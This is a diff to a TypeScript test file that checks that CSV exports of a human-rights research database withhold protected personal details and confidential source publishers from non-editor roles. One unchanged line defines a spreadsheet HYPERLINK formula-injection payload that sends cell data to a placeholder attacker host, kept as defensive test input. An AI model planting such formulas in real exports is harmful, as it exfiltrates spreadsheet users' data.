@@ -6,6 +6,7 @@ import { Source } from '../../src/sources/source.entity';
 import { AccessFixture, buildAccessFixture, SECRET } from '../support/access-fixture';
 import { buildResearchFixture, count, date, ResearchFixture } from '../support/research-fixture';
 import { startTestApp, TestApp } from '../support/test-app';
+import { EXPORT_ROUTES } from '../../src/exports/routes';
 import { csv, download, listIds, queryOf, readCsv, secretStrings } from './support';
 
 const INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
@@ -277,7 +278,8 @@ describe('CSV exports', () => {
     it('never writes a person\'s protected values, in any export, for any role', async () => {
       const people = [SECRET.fullName, SECRET.otherNames, SECRET.occupation, SECRET.contact, SECRET.notes, SECRET.involvementDescription];
       for (const role of [Role.PUBLIC, Role.RESEARCHER, Role.EDITOR]) {
-        for (const path of ['/exports/incidents.csv', '/exports/responses.csv', '/exports/sources.csv', '/exports/citations.csv']) {
+        // Every CSV route, so a new file is covered as soon as it is routed.
+        for (const path of Object.values(EXPORT_ROUTES).filter((e) => e.file.endsWith('.csv')).map((e) => `/exports/${e.file}`)) {
           const { text } = await csv(t, path, role);
           for (const secret of people) expect({ path, role, leaked: text.includes(secret) }).toEqual({ path, role, leaked: false });
         }
@@ -299,7 +301,15 @@ describe('CSV exports', () => {
         const body = (await download(t, '/exports/incidents.csv', role)).text;
         expect(body).not.toContain('Unpublished torture testimony');
         expect(body).not.toContain('hidden.example');
+        // The confidential testimony's publisher is in no joined column (source_publishers).
+        for (const file of ['incidents.csv', 'responses.csv', 'situations.csv', 'organizations.csv']) {
+          expect({ file, leaked: (await download(t, `/exports/${file}`, role)).text.includes('Witness collective') }).toEqual({ file, leaked: false });
+        }
+        const abductions = (await csv(t, '/exports/incidents.csv', role)).rows.find((x) => x.id === r.i.abductions.id)!;
+        expect(abductions.source_publishers.split(' | ').sort()).toEqual(['Human Rights Watch', 'Novaya Gazeta']);
       }
+      const forEditors = (await csv(t, '/exports/incidents.csv', Role.EDITOR)).rows.find((x) => x.id === r.i.abductions.id)!;
+      expect(forEditors.source_publishers.split(' | ')).toContain('Witness collective');
       expect(await ids('/exports/incidents.csv', Role.EDITOR)).toContain(r.i.hidden.id);
       expect(await ids('/exports/responses.csv', Role.EDITOR)).toContain(r.r.hiddenStatement.id);
     });
